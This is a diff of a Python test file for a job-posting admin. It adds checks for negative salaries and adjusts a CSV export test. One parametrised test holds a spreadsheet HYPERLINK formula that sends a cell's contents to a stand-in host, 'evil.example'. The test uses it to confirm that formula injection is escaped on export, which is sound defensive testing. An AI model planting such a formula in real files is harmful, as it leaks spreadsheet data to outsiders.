@@ -179,6 +179,8 @@ def test_an_unchanged_form_saves_and_gives_the_posting_a_new_version(admin_clien
         ({"salary_min": "95000", "salary_max": "90000"}, "__all__", "The salary minimum cannot be above the maximum."),
         ({"salary_currency": ""}, "salary_currency", "Give the currency of the salary."),
         ({"salary_period": ""}, "salary_period", "Say whether the salary is per hour, day, month or year."),
+        ({"salary_min": "-1"}, "salary_min", "A salary cannot be negative."),
+        ({"salary_max": "-1", "salary_min": ""}, "salary_max", "A salary cannot be negative."),
         (
             {"valid_through_0": "2020-01-01", "valid_through_1": "00:00:00"},
             "valid_through",
@@ -199,7 +201,7 @@ def test_the_admin_explains_what_is_wrong_and_saves_nothing(admin_client, change
     response = save(admin_client, posting, data)
 
     assert response.status_code == 200
-    assert errors_of(response)[field] == [message]
+    assert errors_of(response) == {field: [message]}
     assert message in response.text
     assert Posting.objects.values().get(pk=posting.pk) == before
 
@@ -393,12 +395,12 @@ def exported_rows(client, postings):
     ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
 )
 def test_the_csv_export_keeps_text_that_starts_like_a_formula_from_running(admin_client, formula):
-    posting = PostingFactory(title=formula, company=CompanyFactory(name=formula), city=formula, salary_min=-5)
+    posting = PostingFactory(title=formula, company=CompanyFactory(name=formula), city=formula, salary_min=5)
 
     [row] = exported_rows(admin_client, [posting])
 
     assert row["title"] == row["company"] == row["city"] == f"'{formula}"
-    assert (row["salary minimum"], row["salary maximum"]) == ("-5.00", "90000.00")
+    assert (row["salary minimum"], row["salary maximum"]) == ("5.00", "90000.00")
 
 
 def test_the_csv_export_leaves_ordinary_text_and_numbers_as_they_are(admin_client):
